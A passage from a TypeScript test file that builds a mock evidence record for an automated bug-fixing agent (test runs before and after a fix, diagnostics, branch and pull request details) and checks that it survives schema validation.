    status: 'proven' as const,
    detail: '1 test fails before and passes after',
    testFiles: ['test/a.test.js'],
    tests: [{ id: 'test/a.test.js > a > adds', before: 'failed' as const, after: 'passed' as const }],
    passingOnOriginal: ['test/old.test.js > old > breaks'],
    withoutFix: run,
  };
  const evidence: Evidence = {
    status: 'fixed',
    reason: 'verified',
    detail: 'verified',
    model: 'scripted',
    setupCommand: null,
    testCommand: 'npm test',
    baseline: run,
    final: { ...run, succeeded: true, exitCode: 0 },
    summary: 'fixed',
    iterations: 1,
    maxIterations: 5,
    attempts: [{ iteration: 1, summary: 'fixed', verdict, changedFiles: ['src/a.js', 'test/a.test.js'], rolledBack: false, proof }],
    changes: [{ path: 'src/a.js', status: 'modified', additions: 1, deletions: 1, binary: false }],
    usage: { promptTokens: 10, completionTokens: 5, requests: 1 },
    durationMs: 900,
    tests: {
      runner: 'jest',
      commands: [{ purpose: 'gate', command: 'npm test', exitCode: 0, timedOut: false, durationMs: 100, counts: { passed: 4, failed: 0, skipped: 0 } }],
      proof,
      refusals: [],
      original: { ok: true, testFiles: ['test/a.test.js'], missing: [], failing: [], passing: ['test/a.test.js > a > adds'], detail: 'the original tests pass', counts: { passed: 4, failed: 0, skipped: 0 }, exitCode: 0 },
      commentOnly: [{ file: 'src/a.js', line: 3, added: ['// fixed'] }],
    },
    diagnostics: { checkers: ['tsc', 'eslint'], checks: 2, fedBack: 1, off: ['eslint: no configuration'], ms: 300 },
    keptAttempt: { branch: 'agent-fix/attempt-issue-7', baseSha: 'a'.repeat(40) },
    branch: 'agent-fix/issue-7',
    headSha: 'b'.repeat(40),
    prNumber: 8,
    prOperation: 'created',
  };
  expect(EvidenceSchema.parse(JSON.parse(JSON.stringify(evidence)))).toEqual(evidence);
});
